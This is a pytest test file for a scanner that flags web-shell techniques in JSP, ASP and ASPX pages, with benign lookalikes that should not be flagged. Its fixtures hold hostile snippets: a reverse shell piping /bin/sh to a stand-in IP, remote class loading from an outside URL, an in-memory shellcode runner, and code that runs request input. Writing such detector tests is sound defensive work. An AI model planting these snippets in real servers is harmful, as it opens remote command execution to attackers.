from __future__ import annotations

import pytest

from pratique.content.script.loading import Loading

PROGRAM = ",".join(str(ord(c)) for c in "MZ\x90" + "\0" * 450)


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (
            "a.jsp",
            '<% Class.forName("java.lang.Run" + "time"); %>',
            {"script-hides-name": "sure"},
        ),
        # Two that honest pages spell in pieces too, because of a hoster's filter.
        (
            "a.asp",
            '<% Set s = CreateObject("Scripting.File" & "SystemObject") %>',
            {"script-hides-name": "hint"},
        ),
        (
            "a.asp",
            f"<% x = Array({PROGRAM})\nFor i = 0 To 1\nNext\ny = ChrB(77) %>",
            {},
        ),
        (
            "a.aspx",
            f'<%@ Page Language="C#" %><% s = new String(new byte[]{{{PROGRAM}}}); %>',
            {"script-runs-decoded": "sure"},
        ),
        (
            "a.aspx",
            '<%@ Page Language="C#" %><% string x = "<msxsl:script>public void f(){System.'
            'Diagnostics.Process.Start(1);}</msxsl:script>"; %>',
            {"script-runs-decoded": "sure"},
        ),
        (
            "a.jsp",
            "<% JavaCompiler c = ToolProvider.getSystemJavaCompiler(); w.write(request."
            'getParameter("s")); %>',
            {"page-runs-request": "sure"},
        ),
        (
            "a.jsp",
            '<% Socket s = new Socket("203.0.113.5", 4); Process p = Runtime.getRuntime().exec('
            '"/bin/sh"); copy(p.getInputStream(), s.getOutputStream()); %>',
            {"script-connects-back": "sure"},
        ),
        (
            "a.aspx",
            '<%@ Page Language="C#" %><script runat="server">void f() { m = VirtualAlloc(0, n); '
            "CreateThread(0, 0, m); }</script>",
            {"script-runs-decoded": "sure"},
        ),
        ("a.jsp", '<% l.loadClass("$$BCEL$$$l$8b$I$A"); %>', {"script-runs-decoded": "sure"}),
        (
            "a.jsp",
            '<% new URLClassLoader("https://b.example.net/x.jar"); %>',
            {"script-runs-remote": "sure"},
        ),
    ],
)
def test_points_at(asked, name, text, expected):
    assert asked(lambda code, flow: Loading(code, flow).all(), name, text) == expected


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.jsp", '<% Class.forName("java.lang.Runtime"); %>'),
        # A stylesheet that does sums, a compiler of the page's own text.
        (
            "a.aspx",
            '<%@ Page Language="C#" %><% string x = "<msxsl:script>return a + b;'
            '</msxsl:script>"; %>',
        ),
        ("a.jsp", '<% ToolProvider.getSystemJavaCompiler(); w.write("class A {}"); %>'),
        # A client of the network that starts nothing, a tool that starts no shell.
        ("a.jsp", '<% Socket s = new Socket("a.example", 25); s.getOutputStream(); %>'),
        (
            "a.jsp",
            '<% Socket s = new Socket("a.example", 25); s.getOutputStream(); '
            'Runtime.getRuntime().exec("/usr/bin/convert a b"); %>',
        ),
        (
            "a.aspx",
            '<%@ Page Language="C#" %><script runat="server">void f() { m = VirtualAlloc(0, n); }'
            "</script>",
        ),
        ("a.jsp", '<% l.loadClass("com.example.Plugin"); %>'),
        ("a.jsp", '<% new URLClassLoader("file:/srv/lib/x.jar"); %>'),
        ("a.py", "loadclass('$$BCEL$$x')"),
    ],
)
def test_leaves_alone(asked, name, text):
    assert asked(lambda code, flow: Loading(code, flow).all(), name, text) == {}
